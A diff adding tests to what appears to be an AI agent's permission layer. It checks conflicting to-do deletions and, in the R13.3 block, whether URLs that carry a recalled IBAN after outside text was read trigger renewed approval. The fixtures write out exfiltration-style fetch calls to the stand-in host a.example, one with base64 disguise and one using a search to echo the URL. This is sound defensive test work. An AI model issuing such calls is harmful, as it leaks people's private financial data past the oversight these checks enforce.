@@ -141,6 +141,21 @@ test.each([
   expect(world.lines('tool_result')[0]).toMatchObject({ result: { ok: false, failure: { code: 'not_found' }, cause } });
 });
 
+test('R9.12 nobody is asked about a deletion whose id and title belong to two to-dos, and the reason names the first', async () => {
+  const world = worldOf([[['todo', { action: 'delete', id: 'call', title: 'File the reply' }]]]);
+  for (const [id, title] of Object.entries({ call: 'Call Möllendorf', reply: 'File the reply' }))
+    world.storage.tables.todos.set(id, {
+      ...{ id, title, notes: '', due: null, priority: 'normal', tags: [], done: false, position: 1, session_id: null },
+      ...{ created_at: '2026-01-01', updated_at: '2026-01-01', deleted_at: null },
+    });
+  world.submit('Tidy up');
+  await world.untilPhase('completed', 'failed', 'waiting');
+  expect(world.run.approvals).toEqual([]);
+  const cause = { failure: 'other_title', name: 'Call Möllendorf' };
+  expect(world.lines('tool_result')[0]).toMatchObject({ result: { ok: false, failure: { code: 'conflict' }, cause } });
+  expect(world.todos()).toHaveLength(2);
+});
+
 test('R9.12 nobody is asked about a deletion that leaves open which time of a repeating entry it means', async () => {
   const call = { action: 'delete', id: 'e1', title: 'Standup' };
   const all = { ...call, occurrence: 'all' };
@@ -285,5 +300,77 @@ describe('R13.3 after text from outside has been read', () => {
     world.submit('Read both');
     await world.untilPhase('completed');
     expect(world.network.requested).toHaveLength(2);
+  });
+});
+
+describe('R13.3 a permission for a site carries nothing of the person’s own there', () => {
+  const note: Call = ['memory', { action: 'recall', query: 'Möllendorf' }];
+  const open = (path: string): Call => ['fetch', { url: `https://a.example${path}` }];
+  const secret = open('/log?client=Möllendorf&iban=DE89370400440532013000');
+  const disguised = open(`/log?d=${btoa('IBAN DE89370400440532013000')}`);
+  const told = (steps: readonly Call[][], settings: Partial<Settings>) => {
+    const world = worldOf(steps, settings);
+    for (const [tool, input] of steps.flat())
+      if (tool === 'fetch') world.network.page(new URL((input as { url: string }).url).href, { body: 'Noted' });
+    world.network.page('https://a.example/', { body: 'See https://a.example/rulings/of-the-year-2026?page=1' });
+    world.storage.tables.notes.set('n1', {
+      ...{ id: 'n1', title: 'Möllendorf', text: 'IBAN DE89370400440532013000', tags: [], foreign: false },
+      ...{ session_id: null, created_at: '2026-01-01', updated_at: '2026-01-01', deleted_at: null },
+    });
+    return world;
+  };
+  const always = { allowed_origins: ['https://a.example'] };
+
+  test.each([
+    ['as it is', secret, 'own'],
+    ['in disguise', disguised, 'unknown'],
+  ])('always allowed, it is asked about again %s, and once for the plan', async (_, call, carries) => {
+    const world = told([[note, read('a.example')], [call], [call]], always);
+    world.submit('Read it');
+    await world.untilPhase('waiting');
+    expect(world.network.requested).toEqual(['https://a.example/']);
+    const foreign = { page: 'https://a.example/', named: false, carries };
+    expect(world.run.approvals).toMatchObject([{ access: { rule: 'site', foreign } }]);
+    world.reload();
+    await world.untilPhase('waiting');
+    answer(world, 'plan');
+    await world.untilPhase('completed');
+    expect(world.run.approvals).toHaveLength(1);
+    expect(world.network.requested).toHaveLength(3);
+  });
+
+  test('allowed for the plan, it is asked about again, and denied it is not opened', async () => {
+    const world = told([[note, read('a.example')], [secret]], {});
+    world.submit('Read it');
+    await world.untilPhase('waiting');
+    answer(world, 'plan');
+    await world.until(({ phase, approvals }) => phase === 'waiting' && approvals.length === 2);
+    answer(world, 'deny');
+    await world.untilPhase('completed');
+    expect(world.network.requested).toEqual(['https://a.example/']);
+  });
+
+  test.each<[what: string, step: Call[]]>([
+    ['a link of a page, and the next page', [note, read('a.example'), open('/rulings/of-the-year-2026?page=1')]],
+    ['its next page', [note, read('a.example'), open('/rulings/of-the-year-2026?page=2')]],
+    ['a search with words of the goal', [note, read('a.example'), open('/search?q=notice+period+in+Germany')]],
+    ['any address, where nothing of the person’s own was read', [read('a.example'), secret]],
+    ['any address before text from outside was read', [note, open('/wiki/What_the_model_knows_by_itself')]],
+  ])('%s is not asked about', async (_, step) => {
+    const world = told([step], always);
+    world.submit('The notice period in Germany');
+    await world.untilPhase('completed', 'waiting');
+    expect(world.run.phase).toBe('completed');
+    expect(world.network.requested).toHaveLength(step.filter(([tool]) => tool === 'fetch').length);
+  });
+
+  test('an address read is no cover for one that a search was made to echo', async () => {
+    const { url } = disguised[1] as { url: string };
+    const world = told([[note, read('a.example'), ['search', { query: url }], disguised]], {
+      allowed_origins: ['https://a.example', 'https://en.wikipedia.org'],
+    });
+    world.submit('Read it');
+    await world.untilPhase('waiting');
+    expect(world.run.approvals).toMatchObject([{ access: { subject: url } }]);
   });
 });
